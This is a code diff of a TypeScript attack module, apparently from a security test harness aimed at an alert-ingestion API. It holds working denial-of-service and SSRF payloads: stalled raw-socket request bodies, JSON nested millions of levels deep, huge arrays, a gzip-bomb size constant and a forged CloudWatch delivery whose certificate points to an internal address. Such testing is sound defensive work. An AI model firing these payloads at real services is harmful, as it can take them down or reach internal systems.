@@ -4,7 +4,6 @@ import { gzipSync } from 'node:zlib'
 import { type Attack, inTurn, type Target, tally } from './target.ts'
 
 const STALLED = 24
-const STALL_LOOK_MS = 3_000
 const BOMB_BYTES = 200 * 1024 * 1024
 
 async function alertKey({ baseUrl, secretKey, projectId }: Target, fields: object = {}): Promise<string> {
@@ -16,21 +15,14 @@ async function alertKey({ baseUrl, secretKey, projectId }: Target, fields: objec
   return made.alertKey.value
 }
 
-/** Opens a delivery with this key, sends a little of its body and then nothing. */
-function stalled(
-  { baseUrl }: Target,
-  key: string,
-): Promise<{ readonly end: () => void; readonly answer: () => string }> {
+/** Opens a delivery with this key, sends a little of its body and then nothing. Returns what ends it. */
+function stalled({ baseUrl }: Target, key: string): Promise<() => void> {
   const { hostname, port } = new URL(baseUrl)
   return new Promise((resolve) => {
-    let answer = 'none'
     const socket = connect(Number(port), hostname, () => {
       const head = `POST /v1/alerts/generic HTTP/1.1\r\nhost: ${hostname}\r\nauthorization: Bearer ${key}`
       socket.write(`${head}\r\ncontent-length: 8000000\r\n\r\n{"title":"`)
-      resolve({ end: () => socket.destroy(), answer: () => answer })
-    })
-    socket.on('data', (data) => {
-      answer = data.toString('latin1').split(' ')[1] ?? 'unreadable'
+      resolve(() => void socket.destroy())
     })
     socket.on('error', () => {})
   })
@@ -47,15 +39,10 @@ export const alerts: Attack = async (target) => {
       headers: { authorization: `Bearer ${key}`, ...headers },
     })
 
-  const wrong = await Promise.all(Array.from({ length: STALLED }, () => stalled(target, 'wrong')))
-  await new Promise((resolve) => setTimeout(resolve, STALL_LOOK_MS))
-  console.log(
-    `${STALLED} stalled bodies without a key, after ${STALL_LOOK_MS} ms: ${tally(wrong.map(({ answer }) => answer()))}`,
-  )
   const open = await Promise.all(Array.from({ length: STALLED }, () => stalled(target, plain)))
   const beside = await inTurn(20, (i) => send('generic', JSON.stringify({ title: `beside ${i}` }), plain))
   console.log(`20 deliveries beside ${STALLED} stalled ones of the same key: ${tally(beside)}`)
-  for (const { end } of [...wrong, ...open]) end()
+  for (const end of open) end()
 
   const deep = await send('generic', `{"title":"x","a":${'['.repeat(4_000_000)}`, plain)
   const many = await send('generic', `{"title":"x","a":[${'{},'.repeat(1_500_000)}{}]}`, plain)
@@ -74,8 +61,8 @@ export const alerts: Attack = async (target) => {
   const answer = await send('cloudwatch', JSON.stringify(forged), plain)
   console.log(`A certificate at an internal address: ${answer.status} ${await answer.text()}`)
 
-  const unsigned = await inTurn(100, (i) => send('generic', JSON.stringify({ title: `made up ${i}` }), signed))
   const otherName = await send('datadog', JSON.stringify({ title: 'made up', transition: 'Triggered' }), signed)
+  const unsigned = await inTurn(100, (i) => send('generic', JSON.stringify({ title: `made up ${i}` }), signed))
   console.log(
     `100 unsigned deliveries: ${tally(unsigned)}; by the name of a sender that cannot sign: ${otherName.status}`,
   )
